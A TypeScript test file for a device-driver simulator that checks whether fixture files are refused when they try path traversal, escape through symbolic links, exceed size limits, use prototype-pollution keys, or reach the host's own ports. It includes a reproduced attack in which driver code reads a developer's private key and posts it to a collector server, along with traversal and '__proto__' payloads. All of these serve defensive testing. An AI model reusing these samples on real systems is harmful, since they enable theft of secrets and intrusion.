// A simulator fixture is untrusted input, like the driver it ships with (issue 34, cause 7):
// every file it names stays inside its folder (no "..", no absolute path, no symbolic link out,
// regular files only), its sizes and counts are bounded before anything is parsed, and its
// prototype keys are refused. The attack that was seen: a fixture's bodyFile read a private key
// of the developer's machine and the driver sent it out, and the run printed "success".
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FixtureError, loadFixture, parseFixture } from '../../host/index.js';
import { MAX_BODY_FILE_BYTES, MAX_FIXTURE_BODY_BYTES, MAX_FIXTURE_BYTES, MAX_FIXTURE_ROUTES } from '../../host/untrusted-input/files.js';
import { runCli } from '../helpers/cli.js';

const work = mkdtempSync(path.join(tmpdir(), 'driverbox-untrusted-fixture-'));
const SECRET = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-the-developers-key\n-----END OPENSSH PRIVATE KEY-----\n';
// The developer's private file, outside any fixture folder.
const home = path.join(work, 'home');
const secretFile = path.join(home, 'id_ed25519');
mkdirSync(home);
writeFileSync(secretFile, SECRET);

let n = 0;
/** A fresh fixture folder holding `files`, with device.json = `spec`; returns the fixture's path. */
function fixtureDir(spec: unknown, files: Record<string, string> = {}): { dir: string; file: string } {
  const dir = path.join(work, `fixture-${++n}`);
  mkdirSync(dir);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), text);
  }
  const file = path.join(dir, 'device.json');
  writeFileSync(file, typeof spec === 'string' ? spec : JSON.stringify(spec));
  return { dir, file };
}

const route = (bodyFile: string) => ({ fixture: 1, routes: [{ name: 'key', path: '/key', bodyFile }] });

function problemOf(file: string): string {
  try {
    loadFixture(file);
  } catch (error) {
    expect(error).toBeInstanceOf(FixtureError);
    expect((error as FixtureError).code).toBe('INVALID_FIXTURE');
    const { problems } = error as FixtureError;
    expect(problems).toHaveLength(1);
    return problems[0]!;
  }
  throw new Error('the fixture was accepted');
}

describe('bodyFile stays inside the fixture\'s folder', () => {
  it('"..", however deep, is refused, naming the field and the path', () => {
    const relative = path.relative(path.join(work, `fixture-${n + 1}`), secretFile);
    const { file } = fixtureDir(route(relative));
    expect(problemOf(file)).toBe(`routes[0].bodyFile: route key: ${JSON.stringify(relative)} is refused: it contains "..": a fixture's files must be inside its folder`);
    const { file: inner } = fixtureDir(route('pages/../../home/id_ed25519'), { 'pages/a.txt': 'a' });
    expect(problemOf(inner)).toContain('is refused: it contains ".."');
  });

  it('an absolute path (POSIX or Windows) is refused', () => {
    expect(problemOf(fixtureDir(route(secretFile)).file)).toBe(`routes[0].bodyFile: route key: ${JSON.stringify(secretFile)} is refused: it is an absolute path: a fixture's files are named relative to its folder`);
    expect(problemOf(fixtureDir(route('C:\\Users\\dev\\.ssh\\id_rsa')).file)).toContain('is refused: it is an absolute path');
  });

  it('a symbolic link to a file outside, or inside a linked folder, is refused after resolution', () => {
    const { dir, file } = fixtureDir(route('key.txt'));
    symlinkSync(secretFile, path.join(dir, 'key.txt'));
    expect(problemOf(file)).toMatch(/^routes\[0\]\.bodyFile: route key: "key\.txt" is refused: it is \(or is inside\) a symbolic link that leads outside the fixture's folder /);
    const { dir: dir2, file: file2 } = fixtureDir(route('pages/id_ed25519'));
    symlinkSync(home, path.join(dir2, 'pages'));
    expect(problemOf(file2)).toContain('"pages/id_ed25519" is refused: it is (or is inside) a symbolic link that leads outside');
  });

  it('a symbolic link that stays inside is followed, and the folder itself may be reached through a link', () => {
    const { dir } = fixtureDir(route('current.html'), { 'pages/v2.html': '<p>v2</p>' });
    symlinkSync('pages/v2.html', path.join(dir, 'current.html'));
    const linkedDir = path.join(work, `linked-${n}`);
    symlinkSync(dir, linkedDir);
    expect(loadFixture(path.join(linkedDir, 'device.json')).routes[0]!.responses[0]!.body.toString()).toBe('<p>v2</p>');
  });

  it('a FIFO (which would never end) is refused as not a regular file, without waiting', () => {
    const { dir, file } = fixtureDir(route('pipe'));
    execFileSync('mkfifo', [path.join(dir, 'pipe')]);
    expect(problemOf(file)).toMatch(/^routes\[0\]\.bodyFile: route key: cannot read "pipe" \(.*pipe\): it is not a regular file$/);
  });

  it('a fixture object made in code keeps its files inside its baseDir too', () => {
    expect(() => parseFixture(route('../home/id_ed25519'), { baseDir: path.join(work, 'fixture-1') })).toThrow('is refused: it contains ".."');
  });

  it('hosts/<name>.json beside a fixture that is a link out is refused (driverbox run --simulate)', async () => {
    const { dir, file } = fixtureDir({ fixture: 1, routes: [{ path: '/' }] });
    mkdirSync(path.join(dir, 'hosts'));
    const outside = fixtureDir({ fixture: 1, routes: [{ path: '/' }] });
    symlinkSync(outside.file, path.join(dir, 'hosts', 'cloud.example.json'));
    const driver = path.join(dir, 'drv.js');
    writeFileSync(driver, 'function get_status() { D.success(); }');
    const out = await runCli(['run', driver, '--simulate', file], { cwd: dir });
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('hosts/cloud.example.json: is refused: it is (or is inside) a symbolic link that leads outside');
  });
});

describe('sizes and counts are bounded before anything is parsed or read', () => {
  it('a fixture file past MAX_FIXTURE_BYTES is refused by its size', () => {
    const { file } = fixtureDir('{}');
    truncateSync(file, MAX_FIXTURE_BYTES + 1); // sparse: its size says it all
    expect(problemOf(file)).toBe(`cannot be read: the file is ${MAX_FIXTURE_BYTES + 1} bytes, larger than the limit of ${MAX_FIXTURE_BYTES} bytes`);
  });

  it('a body file past MAX_BODY_FILE_BYTES, and body files past MAX_FIXTURE_BODY_BYTES together, are refused', () => {
    const { dir, file } = fixtureDir(route('huge.bin'));
    writeFileSync(path.join(dir, 'huge.bin'), '');
    truncateSync(path.join(dir, 'huge.bin'), MAX_BODY_FILE_BYTES + 1);
    expect(problemOf(file)).toMatch(new RegExp(`cannot read "huge\\.bin" \\(.*\\): it is ${MAX_BODY_FILE_BYTES + 1} bytes, larger than the limit of ${MAX_BODY_FILE_BYTES} bytes$`));
    // Each within its own bound, together past the fixture's: the same file named five times.
    const times = Math.floor(MAX_FIXTURE_BODY_BYTES / MAX_BODY_FILE_BYTES) + 1;
    const many = fixtureDir({ fixture: 1, routes: Array.from({ length: times }, (_, i) => ({ path: `/f${i}`, bodyFile: 'full.bin' })) });
    writeFileSync(path.join(many.dir, 'full.bin'), Buffer.alloc(MAX_BODY_FILE_BYTES));
    expect(problemOf(many.file)).toContain(`: the fixture's body files together pass ${MAX_FIXTURE_BODY_BYTES} bytes, their limit`);
  });

  it('more routes than MAX_FIXTURE_ROUTES are refused', () => {
    const { file } = fixtureDir({ fixture: 1, routes: Array.from({ length: MAX_FIXTURE_ROUTES + 1 }, (_, i) => ({ path: `/r${i}` })) });
    expect(problemOf(file)).toBe(`routes: has ${MAX_FIXTURE_ROUTES + 1} routes, more than the limit of ${MAX_FIXTURE_ROUTES}`);
  });

  it('JSON nested past the depth bound is refused, linearly and without a stack overflow', () => {
    const { file } = fixtureDir(`{"fixture":1,"parameters":{"x":${'['.repeat(500_000)}${']'.repeat(500_000)}},"routes":[{"path":"/"}]}`);
    expect(problemOf(file)).toBe('nests deeper than 256 levels');
  });

  it('a parse error does not quote the file (it may be anything but a fixture)', () => {
    const { file } = fixtureDir(SECRET);
    expect(problemOf(file)).not.toContain('OPENSSH');
  });
});

describe('prototype keys are refused wherever they are', () => {
  it.each([
    ['__proto__', '{"fixture":1,"routes":[{"path":"/","json":{"__proto__":{"polluted":true}}}]}', 'routes[0].json.__proto__'],
    ['constructor', '{"fixture":1,"parameters":{"constructor":{"prototype":{"x":1}}},"routes":[{"path":"/"}]}', 'parameters.constructor'],
    ['prototype', '{"fixture":1,"routes":[{"path":"/","requireHeaders":{"prototype":true}}]}', 'routes[0].requireHeaders.prototype'],
  ])('"%s"', (key, text, at) => {
    expect(problemOf(fixtureDir(text).file)).toBe(`${at}: the key "${key}" is not allowed ("__proto__", "constructor", "prototype" name JavaScript's object machinery, never data)`);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('an object made in code with an own "__proto__" key (as JSON.parse makes) is refused too', () => {
    const spec = JSON.parse('{"fixture":1,"routes":[{"path":"/","headers":{"__proto__":"x"}}]}') as unknown;
    expect(() => parseFixture(spec, { baseDir: work })).toThrow('routes[0].headers.__proto__: the key "__proto__" is not allowed');
  });
});

describe('the attack that was seen: a shipped fixture reads a private file and the driver sends it out', () => {
  const received: string[] = [];
  const collector = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      received.push(body);
      res.end('ok');
    });
  });
  beforeAll(() => new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve)));
  afterAll(() => new Promise<void>((resolve) => collector.close(() => resolve())));

  it('driverbox run --simulate refuses the fixture (exit 2) before the driver runs; nothing is sent', async () => {
    const port = (collector.address() as AddressInfo).port;
    const relative = path.relative(path.join(work, `fixture-${n + 1}`), secretFile);
    const { dir, file } = fixtureDir(route(relative));
    const driver = path.join(dir, 'driver.js');
    writeFileSync(
      driver,
      `function get_status() {
  D.device.http.get('/key', function (err, res, key) {
    var out = D.createExternalDevice('127.0.0.1');
    out.http.post({ url: '/collect', port: ${port}, body: String(key) }, function () { D.success(); });
  });
}`,
    );
    const out = await runCli(['run', driver, '--simulate', file], { cwd: dir });
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('routes[0].bodyFile: route key:');
    expect(out.stderr).toContain('is refused: it contains ".."');
    expect(received).toEqual([]);
  });
});

describe('a simulated device is its simulator\'s ports only, never the host machine\'s other services', () => {
  let local: http.Server; // a service of the developer's (or the server's) own, on loopback
  let localPort = 0;
  const localHits: string[] = [];
  beforeAll(async () => {
    local = http.createServer((req, res) => {
      localHits.push(req.url ?? '');
      res.end('internal admin page');
    });
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve));
    localPort = (local.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => local.close(() => resolve())));

  it('HTTP and TLS to a port the fixture does not serve are refused (PORT_NOT_SIMULATED), on the device and on its pinned names', async () => {
    const { startSimulator, createHost } = await import('../../host/index.js');
    const sim = await startSimulator({ fixture: 1, device: { host: 'nas.lan' }, https: { hosts: ['cloud.example'] }, routes: [{ path: '/', body: 'simulated' }] });
    const host = createHost({ threads: 1, warmIsolates: 0 });
    try {
      const source = `
function get_status() {
  D.device.http.get('/', function (e0, r0, served) {
    D.device.http.get({ url: '/admin', port: ${localPort} }, function (e1, r1, b1) {
      var cloud = D.createExternalDevice('cloud.example');
      cloud.http.get({ url: '/admin', port: ${localPort} }, function (e2, r2, b2) {
        D.device.http.getTLSCertificate({ port: ${localPort} }, function (e3) {
          console.log([served, e1 ? e1.code : b1, e2 ? e2.code : b2, e3 ? e3.code : 'cert'].join(' '));
          D.success();
        });
      });
    });
  });
}`;
      const result = await host.run({ source, filename: 'd.js', device: sim.device, resolve: sim.resolve });
      expect(result.logs.map((l) => l.message)).toEqual(['simulated PORT_NOT_SIMULATED PORT_NOT_SIMULATED PORT_NOT_SIMULATED']);
      expect(result.http[1]!.errorMessage).toBe(`port ${localPort} is not one the simulated device serves (80, 443): another port of its address is the host machine's own`);
      expect(localHits).toEqual([]);
    } finally {
      await host.close();
      await sim.close();
    }
  });
});
